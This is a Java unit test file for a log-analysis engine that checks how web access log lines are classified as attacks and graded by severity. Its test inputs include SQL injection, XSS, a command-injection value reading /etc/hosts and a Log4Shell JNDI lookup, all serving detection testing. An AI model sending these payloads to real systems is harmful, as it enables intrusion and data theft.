package dev.watchkeeper.engine.line;

import static org.assertj.core.api.Assertions.assertThat;

import dev.watchkeeper.engine.classify.Match;
import dev.watchkeeper.engine.classify.Severity;
import dev.watchkeeper.engine.format.RawLine;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RequestAttacksTest {

    private static final Understanding UNDERSTANDING = Understanding.standard();

    @ParameterizedTest
    @CsvSource({"200, HIGH", "500, HIGH", "302, MEDIUM", "404, LOW", "403, LOW"})
    void the_answer_says_how_bad_an_attack_is(int status, Severity severity) {
        assertThat(match(line("/item?id=7%27%20OR%201%3D1--", status, "Mozilla/5.0")))
                .hasValueSatisfying(match -> assertThat(match.severity()).isEqualTo(severity));
    }

    @Test
    void a_match_names_class_rule_and_place() {
        Match match = match(line("/ping?host=1.2.3.4%7Ccat+/etc/hosts", 200, "Mozilla/5.0"))
                .orElseThrow();

        assertThat(match.troubleClass().id()).isEqualTo("web_attack_command");
        assertThat(match.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(match.rule()).isEqualTo("web_attack_command@1");
        assertThat(match.title()).startsWith("A request tries to run a command").endsWith(", query)");
    }

    @Test
    void the_evidence_stands_in_the_line_as_the_client_sent_it() {
        String line = line("/find?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "Mozilla/5.0");

        Match match = match(line).orElseThrow();

        assertThat(line).contains(match.evidence());
        assertThat(match.evidence()).startsWith("%3C");
    }

    @Test
    void an_attack_says_more_than_the_error_it_caused() {
        assertThat(match(line("/a?x=${jndi:ldap://192.0.2.7/a}", 503, "Mozilla/5.0")))
                .hasValueSatisfying(
                        match -> assertThat(match.troubleClass().id()).isEqualTo("web_attack_command"));
        assertThat(match(line("/a?x=7", 503, "Mozilla/5.0")))
                .hasValueSatisfying(
                        match -> assertThat(match.troubleClass().id()).isEqualTo("http_5xx"));
    }

    @Test
    void a_scanner_that_found_nothing_is_no_great_trouble() {
        assertThat(match(line("/.env", 404, "Mozilla/5.0")))
                .hasValueSatisfying(match -> assertThat(match.severity()).isEqualTo(Severity.LOW));
    }

    @Test
    void a_request_written_as_json_is_judged_alike() {
        String line =
                "{\"ts\":\"2026-01-02T15:04:05Z\",\"method\":\"GET\",\"uri\":\"/find?q=%3Csvg/onload=alert(1)%3E\","
                        + "\"status\":200}";

        assertThat(match(line))
                .hasValueSatisfying(
                        match -> assertThat(match.troubleClass().id()).isEqualTo("web_attack_xss"));
    }

    @Test
    void what_an_application_says_of_an_attack_is_not_one() {
        assertThat(match("2026-01-02 15:04:05,000 INFO [main] a.B - refused id=7' OR 1=1--"))
                .isEmpty();
    }

    @Test
    void an_ordinary_request_shows_no_trouble() {
        assertThat(match(line("/search?q=blue+shoes&page=2", 200, "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101")))
                .isEmpty();
    }

    private static Optional<Match> match(String line) {
        return UNDERSTANDING
                .understand(new RawLine(line, Instant.parse("2026-01-02T15:04:05Z"), ZoneOffset.UTC))
                .match();
    }

    private static String line(String target, int status, String agent) {
        return "203.0.113.7 - - [02/Jan/2026:15:04:05 +0000] \"GET " + target + " HTTP/1.1\" " + status
                + " 512 \"-\" \"" + agent + "\"";
    }
}
